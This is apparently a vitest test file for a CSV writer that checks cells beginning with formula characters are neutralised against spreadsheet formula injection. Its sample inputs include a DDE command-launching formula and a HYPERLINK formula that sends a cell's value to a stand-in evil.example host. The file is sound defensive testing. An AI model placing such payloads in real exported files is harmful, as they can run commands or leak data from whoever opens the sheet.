import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

const formulas = [
  '=1+1', '+1', '-1', '@SUM(A1)', '|calc', '%0', "=cmd|' /C calc'!A0", ' =1', '\t=1', '\r=1', '\n=1', '\r\n@x', ' \u00a0=1', '＝1', '＋1', '－1', '＠x', '"=1"', 'a;=1', 'a; =1', 'a\t@x', 'a\n=1', 'a\r\n+1', 'a;"=1', '";=1', 'a";=1;"', 'x\u2028=1', ';=1', ';;=1', '=HYPERLINK("http://evil.example?x="&A1,"open")',
]
/** How a spreadsheet may read the file: by its own separator, quotes only where a cell begins with one. */
const separators = [',', ';', '\t']

function cellsOf(text: string, delimiter: string): string[] {
  const loose = { delimiter, relax_column_count: true, skip_empty_lines: true } as const
  const bare = parse(text, { ...loose, quote: false }) as string[][]
  if (delimiter !== ',') {
    try {
      return [...bare, ...(parse(text, { ...loose, relax_quotes: true }) as string[][])].flat()
    } catch {
      // Quotes that do not close where nobody cuts at commas: then they mean nothing.
      return bare.flat()
    }
  }
  return (parse(text, loose) as string[][]).flat()
}

describe('a cell', () => {
  it.each(formulas)('is no formula, whatever it is cut at: %j', (text) => {
    for (const line of [csvLine([text]), csvLine(['first', text, 'last']), csvLine(['q"uote', text])]) {
      for (const separator of separators) {
        for (const cell of cellsOf(line, separator)) expect(cell, `${JSON.stringify(line)} cut at ${JSON.stringify(separator)}`).not.toMatch(/^"?\s*[=+\-@|%＝＋－＠]/)
      }
    }
  })

  it('is read back as it was written, but for the apostrophes', () => {
    fc.assert(fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (cells) => {
      const [row = []] = parse(csvLine(['x', ...cells]), { relax_column_count: true }) as string[][]
      expect(row.slice(1).map((cell) => cell.replaceAll("'", ''))).toEqual(cells.map((cell) => cell.replaceAll("'", '')))
    }))
  })

  it('leaves numbers, null and ordinary words alone', () => {
    expect(csvLine([-5, null, 0, 'a-b', 'Ciao: 3 + 4', 'l’anno'])).toBe('-5,,0,a-b,Ciao: 3 + 4,l’anno\r\n')
    expect(csvCell('a, "b"')).toBe('"a, ""b"""')
  })
})
